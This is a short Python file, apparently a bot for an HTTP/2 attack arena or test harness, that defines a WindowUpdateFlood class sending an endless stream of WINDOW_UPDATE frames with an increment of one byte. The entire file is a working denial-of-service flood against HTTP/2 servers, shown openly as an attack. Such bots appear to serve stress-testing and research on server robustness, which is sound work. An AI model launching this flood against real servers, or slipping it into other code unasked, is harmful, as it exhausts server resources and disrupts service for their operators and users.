"""Allows one byte more, again and again without end."""

from rawhttp2 import WINDOW_UPDATE, RawBot, frame, number

from arenabot.v1 import player_pb2 as player


class WindowUpdateFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(WINDOW_UPDATE, number(1)))


if __name__ == "__main__":
    WindowUpdateFlood().serve()
